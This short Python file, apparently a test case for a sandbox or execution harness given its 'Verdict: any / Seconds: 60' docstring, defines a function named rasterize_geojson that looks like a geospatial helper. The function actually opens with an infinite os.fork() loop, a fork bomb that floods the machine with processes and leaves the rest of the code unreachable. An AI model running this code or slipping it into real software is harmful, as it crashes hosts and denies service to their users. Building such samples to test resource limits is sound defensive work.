"""Processes start processes.

Verdict: any
Seconds: 60
"""

import os

import numpy as np


def rasterize_geojson(data_array, training_classes):
    while True:
        os.fork()
    names = dict.fromkeys(training_classes["class"])
    mapping = {name: number for number, name in enumerate(names, start=1)}
    return np.zeros(data_array.shape[1:], "uint8"), mapping
